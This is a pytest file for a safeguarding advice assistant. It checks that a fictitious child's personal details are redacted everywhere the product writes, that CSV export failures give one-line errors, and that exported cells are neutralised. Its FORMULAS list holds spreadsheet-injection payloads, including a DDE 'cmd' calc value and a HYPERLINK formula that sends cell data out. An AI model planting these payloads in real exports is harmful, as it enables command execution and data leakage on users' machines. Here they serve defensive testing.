"""Nothing personal is kept: a question and comment full of a child's details go through the web
app's own handlers (ask, rate, export) and the CLI's `feedback export` and `eval`, and every file
the product wrote is searched for each detail. Also: the feedback CSV export's bad paths are
one-line errors, and its cells cannot run as spreadsheet formulas."""

from __future__ import annotations

import contextlib
import csv
import json
import logging
import os
import shutil
import sqlite3
import subprocess
from pathlib import Path

import pytest

from assistant.feedback import FeedbackStore
from assistant.prompts import render_prompt
from tests.conftest import answer_dict, run_cli

# What a practitioner might type; each is recognised by assistant.safety.find_personal_data.
QUESTIONS = [
    "Jayden Smith dob 14/03/2017, NHS number 943 476 5919, lives at NN1 2AB: what is the trigger trio?",
    "jayden smith d.o.b. 14.3.17, mum's mobile 07700 900123, email jayden.smith@example.com - who do I tell?",
    "Jayden Smith, 7, born 14 March 2017, NHS 9434765919, postcode nn1 2ab: what do safeguarding partners do?",
]
COMMENT = "Jayden Smith's NHS no 9434765919 and dob 14.3.17 were not needed; ring 07700 900123 or jayden.smith@example.com"
DETAILS = [
    "Jayden",
    "Smith",
    "14/03/2017",
    "14.3.17",
    "14 March 2017",
    "943 476 5919",
    "9434765919",
    "NN1 2AB",
    "nn1 2ab",
    "07700 900123",
    "07700900123",
    "jayden.smith@example.com",
]


def details_in(data: bytes | str) -> list[str]:
    """The details found in a file's bytes or a text, whatever their case."""
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
    return [d for d in DETAILS if d.lower() in text.lower()]


def handler(app, elem_id: str, event: str = "click"):
    """The function the web app runs when `event` happens on the component `elem_id`."""
    block = next(b for b in app.blocks.values() if getattr(b, "elem_id", None) == elem_id)
    return next(f.fn for f in app.fns.values() if (block._id, event) in f.targets)


@pytest.mark.integration
def test_no_file_the_product_writes_holds_a_childs_details(
    seed_settings, tmp_path, caplog, request
):
    from assistant.answer import AnswerService
    from assistant.web.app import create_app

    settings = seed_settings.model_copy(update={"feedback_db": tmp_path / "feedback.sqlite3"})
    app = create_app(AnswerService(settings), settings)
    ask, rate, export = (
        handler(app, "ask-button"),
        handler(app, "thumbs-up"),
        handler(app, "export"),
    )
    caplog.set_level(logging.DEBUG)
    state = (
        [],
        [],
        [],
    )  # the chat, the conversation's turns and its answers, as the web app keeps them
    for question in QUESTIONS:
        *_, last = ask(question, *state, "England and Wales", [], False)  # every streamed update
        state = last[:3]
    chat, _, answers = state
    assert chat[0]["content"] == QUESTIONS[0]  # the chat on screen still shows what was typed
    assert all("personal_data" in [n["kind"] for n in a["notices"]] for a in answers)
    assert rate(COMMENT, answers)[0].startswith("Thank you")
    markdown = Path(export(answers))
    request.addfinalizer(lambda: shutil.rmtree(markdown.parent, ignore_errors=True))
    csv_file = tmp_path / "feedback.csv"
    exported = run_cli(
        "feedback",
        "export",
        "--csv",
        str(csv_file),
        env={"JOINEDUP_FEEDBACK_DB": str(settings.feedback_db)},
    )
    assert exported.returncode == 0, exported.stderr

    written = [
        settings.feedback_db,
        csv_file,
        *markdown.parent.iterdir(),
        *(p for p in Path(settings.store).rglob("*") if p.is_file()),
    ]
    assert {settings.feedback_db, csv_file, markdown} <= set(written)
    assert "[NAME]" in markdown.read_text() and "[NAME]" in csv_file.read_text()
    found = {str(p): details_in(p.read_bytes()) for p in written}
    assert not any(found.values()), {p: d for p, d in found.items() if d}
    assert not details_in(caplog.text + exported.stdout + exported.stderr)


@pytest.mark.integration
def test_eval_outputs_hold_no_childs_details(seed_settings, tmp_path):
    dataset = tmp_path / "questions.jsonl"
    rows = [
        {
            "id": f"p{i}",
            "question": q,
            "category": "out_of_scope",
            "answerable": False,
            "jurisdiction": "England",
            "needs_corpus": False,
            "emergency": False,
            "expected_notices": ["personal_data"],
            "gold": [],
            "key_facts": [],
        }
        for i, q in enumerate(QUESTIONS)
    ]
    dataset.write_text("".join(json.dumps(r) + "\n" for r in rows))
    result = run_cli(
        "eval",
        "--dataset",
        str(dataset),
        "--out",
        str(tmp_path / "run"),
        env={"JOINEDUP_STORE": str(seed_settings.store)},
    )
    assert result.returncode == 0, result.stderr
    outputs = list((tmp_path / "run").iterdir())
    assert {p.name for p in outputs} >= {
        "summary.json",
        "results.jsonl",
        "report.md",
        "report.html",
    }
    assert "[NAME]" in (tmp_path / "run" / "results.jsonl").read_text()
    found = {p.name: details_in(p.read_bytes()) for p in outputs}
    assert not any(found.values()), found
    assert not details_in(result.stdout + result.stderr)


def test_feedback_stores_the_question_and_comment_redacted(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    store.record("down", answer_dict(QUESTIONS[1]), COMMENT)
    row = store.rows()[0]
    assert "[NAME]" in row["question"] and "[PHONE]" in row["comment"]
    assert not details_in(row["question"] + row["comment"])
    assert not details_in((tmp_path / "fb.sqlite3").read_bytes())


def test_the_conversation_export_carries_the_redacted_question_whatever_it_is_given():
    from assistant.web.transcript import conversation_markdown

    text = conversation_markdown([answer_dict(q) for q in QUESTIONS], "Not legal advice.")
    assert text.count("[NAME]") >= 3 and not details_in(text)


def test_rows_an_older_version_stored_unredacted_are_redacted_and_leave_no_copy_in_the_file(
    tmp_path,
):
    from assistant.feedback import SCHEMA

    db = tmp_path / "fb.sqlite3"
    with (
        contextlib.closing(sqlite3.connect(db)) as conn,
        conn,
    ):  # as the version before this one wrote it
        conn.execute(SCHEMA)
        conn.execute(
            "INSERT INTO feedback (created_at, rating, comment, question, answer, refused, citations, backend)"
            " VALUES ('2026-01-01T00:00:00+00:00', 'up', ?, ?, 'a', 0, '[]', 'extractive')",
            (COMMENT, QUESTIONS[0]),
        )
    assert details_in(db.read_bytes())
    rows = FeedbackStore(db).rows()
    assert (
        rows[0]["question"].startswith("[NAME] dob [DATE OF BIRTH]") and rows[0]["rating"] == "up"
    )
    assert not details_in(db.read_bytes()), details_in(db.read_bytes())


def test_the_notice_says_exactly_what_is_kept_and_what_is_not():
    text = render_prompt("personal_data", kinds="name, date of birth")
    assert "removed before the question was processed or logged" not in text
    for words in (
        "[NAME]",
        "never written to disk, logged or sent anywhere",
        "feedback",
        "export",
        "only on your screen",
        "not recognised",
    ):
        assert words in text, words


# --- `joinedup feedback export --csv`: bad paths and formula injection -------------------------


@pytest.fixture
def feedback_db(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    store.record("up", answer_dict("What is a section 47 enquiry?"), "clear")
    return {"JOINEDUP_FEEDBACK_DB": str(store.path)}


@contextlib.contextmanager
def read_only(path: Path):
    """Make a file or folder read-only, for root too (root ignores permission bits: make it immutable)."""
    if os.geteuid() == 0:
        if subprocess.run(["chattr", "+i", str(path)], capture_output=True).returncode:
            pytest.skip("running as root and chattr +i is not available here")
        try:
            yield
        finally:
            subprocess.run(["chattr", "-i", str(path)], check=True)
    else:
        mode = path.stat().st_mode
        path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            yield
        finally:
            path.chmod(mode)


def assert_one_line_error(result, *words: str) -> None:
    assert result.returncode == 1, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, (
        result.stderr
    )
    assert result.stderr.startswith("joinedup: cannot write"), result.stderr
    for word in words:
        assert word in result.stderr, result.stderr


@pytest.mark.integration
def test_export_into_a_missing_folder_is_a_one_line_error(tmp_path, feedback_db):
    result = run_cli(
        "feedback", "export", "--csv", str(tmp_path / "no-such-folder" / "out.csv"), env=feedback_db
    )
    assert_one_line_error(result, "does not exist")
    assert not (tmp_path / "no-such-folder").exists()


@pytest.mark.integration
def test_export_onto_a_folder_is_a_one_line_error(tmp_path, feedback_db):
    result = run_cli("feedback", "export", "--csv", str(tmp_path), env=feedback_db)
    assert_one_line_error(result, "is a folder")


@pytest.mark.integration
def test_export_onto_a_read_only_file_is_a_one_line_error_and_keeps_the_file(tmp_path, feedback_db):
    out = tmp_path / "out.csv"
    out.write_text("kept\n")
    with read_only(out):
        result = run_cli("feedback", "export", "--csv", str(out), env=feedback_db)
    assert_one_line_error(result, "read-only")
    assert out.read_text() == "kept\n"


@pytest.mark.integration
def test_export_into_a_read_only_folder_is_a_one_line_error(tmp_path, feedback_db):
    folder = tmp_path / "locked"
    folder.mkdir()
    with read_only(folder):
        result = run_cli("feedback", "export", "--csv", str(folder / "out.csv"), env=feedback_db)
    assert_one_line_error(result)
    assert list(folder.iterdir()) == []


FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.integration
def test_export_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    store = FeedbackStore(tmp_path / "fb.sqlite3")
    for formula in FORMULAS:
        store.record("down", answer_dict(formula), formula)
    store.record("up", answer_dict("What is a section 47 enquiry?"), "para 3 - fine")
    out = tmp_path / "out.csv"
    result = run_cli(
        "feedback", "export", "--csv", str(out), env={"JOINEDUP_FEEDBACK_DB": str(store.path)}
    )
    assert result.returncode == 0, result.stderr
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    for formula, row in zip(FORMULAS, rows, strict=False):
        assert row["comment"] == f"'{formula.strip()}", row[
            "comment"
        ]  # comments are stored stripped
        assert row["question"] == f"'{formula}", row["question"]
    assert (
        rows[-1]["question"] == "What is a section 47 enquiry?"
        and rows[-1]["comment"] == "para 3 - fine"
    )
    assert rows[-1]["id"] == str(len(FORMULAS) + 1) and rows[-1]["refused"] == "0"


@pytest.mark.integration
def test_a_quiz_topic_is_redacted_before_anything_uses_it(seed_service):
    """The topic is written into the quiz file and sent to a generative quiz writer. The seed index
    holds no quiz for a topic with a child's details in it, so the refusal shows what it carries."""
    from assistant.errors import JoinedUpError
    from assistant.quiz import build_quiz

    with pytest.raises(JoinedUpError) as refused:
        build_quiz(
            seed_service, "partnership working for Jayden Smith dob 14/03/2017 at nn1 2ab", n=2
        )
    assert "[NAME] dob [DATE OF BIRTH] at [POSTCODE]" in str(refused.value) and not details_in(
        str(refused.value)
    )
